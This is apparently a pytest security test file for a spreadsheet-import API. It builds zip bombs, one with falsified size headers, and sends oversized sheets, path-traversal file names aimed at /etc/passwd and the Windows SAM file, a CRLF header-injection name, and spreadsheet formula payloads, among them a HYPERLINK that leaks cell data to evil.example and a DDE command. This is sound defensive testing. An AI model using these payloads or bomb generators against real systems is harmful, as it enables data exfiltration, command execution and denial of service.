"""POST /api/v1/imports with hostile files: ZIP bombs, oversized sheets, formulas, path-like names.

Each is a 4xx problem (or, for a file name, safe handling), echoes nothing of what was sent, and
leaves the database as it was.
"""

from __future__ import annotations

import io
import os
import re
import struct
import zipfile
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import httpx
import pytest
from openpyxl import Workbook
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession

from app.models import ImportBatch, Item
from app.services.importers import structured
from tests.factories import MINQIN, table_counts

PROBLEM = "application/problem+json"
DIMENSION = re.compile(rb'<dimension ref="[^"]+"\s*/>')
HEADER = ["agency", "seq", "name", "power_type_raw", "exercising_body", "legal_basis"]
ROW = [
    "民勤县医疗保障局",
    1,
    "对骗取医保基金支出的处罚",
    "行政处罚",
    "民勤县医疗保障局",
    "《社会保险法》",
]


async def _upload(
    client: httpx.AsyncClient, data: bytes, name: str = "list.xlsx", **form: str
) -> httpx.Response:
    return await client.post("/api/v1/imports", files={"file": (name, data)}, data=form)


def _workbook(rows: Sequence[list[Any]]) -> bytes:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _with_sheet(xlsx: bytes, edit: re.Pattern[bytes], replacement: bytes) -> bytes:
    """The workbook with its first sheet's XML rewritten (to make it lie about its size)."""
    src = zipfile.ZipFile(io.BytesIO(xlsx))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data, n = edit.subn(replacement, data)
                assert n == 1
            dst.writestr(info.filename, data)
    return out.getvalue()


def _bomb(expanded: int) -> bytes:
    """A small valid-looking XLSX whose sheet inflates to `expanded` bytes of XML whitespace."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(b"<worksheet><sheetData>")
            chunk = b" " * (1 << 20)
            written = 0
            while written < expanded:
                sheet.write(chunk)
                written += len(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


def _lying_bomb(real: int, declared: int) -> bytes:
    """A bomb whose headers claim its sheet is `declared` bytes while it inflates to `real`."""
    data = bytearray(_bomb(real))
    name = b"xl/worksheets/sheet1.xml"
    # The local header (signature PK\x03\x04) and the central directory entry (PK\x01\x02) each
    # hold the uncompressed size; the zip64 extra field holds it too when set.
    for sig, name_len_at, size_at, extra_len_at, header_len in (
        (b"PK\x03\x04", 26, 22, 28, 30),
        (b"PK\x01\x02", 28, 24, 30, 46),
    ):
        at = 0
        while (at := data.find(sig, at)) != -1:
            (name_len,) = struct.unpack_from("<H", data, at + name_len_at)
            start = at + header_len
            if bytes(data[start : start + name_len]) == name:
                (extra_len,) = struct.unpack_from("<H", data, at + extra_len_at)
                if struct.unpack_from("<I", data, at + size_at)[0] == 0xFFFFFFFF:
                    extra = start + name_len
                    end = extra + extra_len
                    while extra < end:
                        tag, size = struct.unpack_from("<HH", data, extra)
                        if tag == 1:  # zip64: uncompressed size first
                            struct.pack_into("<Q", data, extra + 4, declared)
                        extra += 4 + size
                else:
                    struct.pack_into("<I", data, at + size_at, declared)
            at += 4
    return bytes(data)


def _assert_refused(r: httpx.Response, status: int, code: str, *echo: str) -> None:
    assert r.status_code == status, r.text[:300]
    assert r.headers["content-type"] == PROBLEM
    assert r.json()["code"] == code
    for raw in echo:
        assert raw not in r.text


class TestSpreadsheetBombs:
    async def test_zip_bomb_disguised_as_xlsx_is_refused_unopened(
        self, client: httpx.AsyncClient, session: AsyncSession
    ) -> None:
        bomb = _bomb(structured.MAX_XLSX_UNCOMPRESSED + (1 << 20))
        assert len(bomb) < 1_000_000  # well under the upload limit: only unpacking is large
        before = await table_counts(session)
        # Named and declared as something else: the content decides.
        r = await _upload(client, bomb, name="list.csv", format="auto")
        _assert_refused(r, 422, "import.too_large")
        r = await _upload(client, bomb, name="list.xlsx", format="xlsx")
        _assert_refused(r, 422, "import.too_large")
        assert await table_counts(session) == before

    async def test_bomb_whose_headers_understate_its_size_is_refused(
        self, client: httpx.AsyncClient, session: AsyncSession
    ) -> None:
        # zipfile stops inflating at the declared size and then fails the CRC check, so a lying
        # header gets a damaged-file refusal instead of the whole expansion.
        bomb = _lying_bomb(real=64 << 20, declared=4096)
        with zipfile.ZipFile(io.BytesIO(bomb)) as z:
            assert z.getinfo("xl/worksheets/sheet1.xml").file_size == 4096
        before = await table_counts(session)
        r = await _upload(client, bomb)
        _assert_refused(r, 422, "import.bad_format")
        assert await table_counts(session) == before

    async def test_sheet_wider_than_the_limit_is_refused(
        self, client: httpx.AsyncClient, session: AsyncSession
    ) -> None:
        extra = [f"c{n}" for n in range(structured.MAX_XLSX_COLUMNS)]
        wide = _workbook([[*HEADER, *extra], [*ROW, *("x" for _ in extra)]])
        before = await table_counts(session)
        _assert_refused(await _upload(client, wide), 422, "import.too_large", "c99")
        assert await table_counts(session) == before

    async def test_sheet_without_a_declared_size_is_counted_while_read(
        self, client: httpx.AsyncClient, session: AsyncSession
    ) -> None:
        wide_row = [*ROW, *range(structured.MAX_XLSX_COLUMNS)]
        undeclared = _with_sheet(_workbook([HEADER, wide_row]), DIMENSION, b"")
        before = await table_counts(session)
        _assert_refused(await _upload(client, undeclared), 422, "import.too_large")
        assert await table_counts(session) == before

    async def test_sheet_that_declares_too_many_rows_is_refused_before_reading(
        self, client: httpx.AsyncClient, session: AsyncSession
    ) -> None:
        # Cells beyond the limit, as the sheet declares them: refused without reading a row.
        last = structured.MAX_XLSX_CELLS // len(HEADER) + 1
        huge = _with_sheet(
            _workbook([HEADER, ROW]),
            DIMENSION,
            f'<dimension ref="A1:F{last}"/>'.encode(),
        )
        before = await table_counts(session)
        _assert_refused(await _upload(client, huge), 422, "import.too_large")
        assert await table_counts(session) == before

    async def test_a_sheet_within_the_limits_imports(self, client: httpx.AsyncClient) -> None:
        r = await _upload(client, _workbook([HEADER, ROW]))
        assert r.status_code == 200, r.text
        assert r.json()["counts"]["new"] == 1


class TestFormulas:
    @pytest.mark.parametrize(
        "formula",
        ['=HYPERLINK("http://evil.example/?leak="&A2,"点击")', "=cmd|' /C calc'!A0", "=1+1"],
        ids=["hyperlink", "dde", "arithmetic"],
    )
    async def test_xlsx_with_a_formula_is_refused(
        self, client: httpx.AsyncClient, session: AsyncSession, formula: str
    ) -> None:
        xlsx = _workbook([[*HEADER, "remarks"], [*ROW, formula]])
        before = await table_counts(session)
        _assert_refused(
            await _upload(client, xlsx), 422, "import.bad_format", "evil.example", "calc", "1+1"
        )
        assert await table_counts(session) == before


# A file name as the client's bytes put it, and the base name kept (None: the upload is refused).
PATH_NAMES: list[tuple[bytes, str | None]] = [
    (b"../../etc/passwd", "passwd"),
    (b"/etc/passwd", "passwd"),
    (b"..\\..\\Windows\\System32\\config\\SAM", "SAM"),
    (b"C:\\Users\\x\\list.txt", "list.txt"),
    (b"list\x00.txt/../../x.sh", "x.sh"),
    (b"nul\x00", "nul"),
    (b"../", "upload"),
    (b"..", "upload"),
    (b"\x00", "upload"),
    (b"\x1b[31mred", "[31mred"),
    (b"%2e%2e%2fetc%2fpasswd", "%2e%2e%2fetc%2fpasswd"),
    ("../../清单/民勤.txt".encode(), "民勤.txt"),
    (b"x" * 300 + b".txt", "x" * 255),
    (b"x" * 20_000 + b".txt", None),  # over the multipart parser's header limit
    # The line break ends the part's header: what follows is a header of its own, not the name.
    (b"a\r\nX-Injected: 1", '"a'),
]


def _multipart(file_name: bytes, data: bytes) -> tuple[bytes, str]:
    """A multipart body carrying `file_name` byte for byte (httpx would percent-encode it)."""
    boundary = "powercat-test-boundary"
    body = (
        f"--{boundary}\r\n".encode()
        + b'Content-Disposition: form-data; name="file"; filename="'
        + file_name
        + b'"\r\nContent-Type: application/octet-stream\r\n\r\n'
        + data
        + f"\r\n--{boundary}\r\n".encode()
        + b'Content-Disposition: form-data; name="dry_run"\r\n\r\ntrue'
        + f"\r\n--{boundary}--\r\n".encode()
    )
    return body, f"multipart/form-data; boundary={boundary}"


class TestPathLikeFileNames:
    @pytest.mark.parametrize(
        ("name", "kept"), PATH_NAMES, ids=[repr(n[:24])[2:-1] for n, _ in PATH_NAMES]
    )
    async def test_only_a_safe_base_name_is_used(
        self,
        client: httpx.AsyncClient,
        session: AsyncSession,
        tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch,
        name: bytes,
        kept: str | None,
    ) -> None:
        monkeypatch.chdir(tmp_path)  # a name acted on as a path would land (or be read) here
        before = await table_counts(session)
        body, content_type = _multipart(name, MINQIN.read_bytes())
        r = await client.post(
            "/api/v1/imports", content=body, headers={"Content-Type": content_type}
        )
        if kept is None:
            _assert_refused(r, 400, "bad_request", "xxxx")
        else:
            assert r.status_code == 200, r.text
            assert r.json()["status"] == "dry_run"
            assert r.json()["file"] == kept
            for problem in r.json()["problems"]:
                assert problem["file"] == kept
        for raw in ("../", "..\\", "/etc/", "\\u0000", "\\u001b", "\\r", "\\n", "C:", "Injected"):
            assert raw not in r.text
        assert await table_counts(session) == before
        assert not any(os.scandir(tmp_path))

    async def test_imported_items_and_batch_record_the_safe_name(
        self, client: httpx.AsyncClient, session: AsyncSession
    ) -> None:
        r = await _upload(client, MINQIN.read_bytes(), name="../../srv/lists/民勤.tsv.txt")
        assert r.status_code == 200, r.text
        batch = await session.get(ImportBatch, r.json()["batch_id"])
        assert batch is not None
        assert batch.file_name == "民勤.tsv.txt"
        files = set((await session.scalars(select(Item.source_file))).all())
        assert files == {"民勤.tsv.txt"}
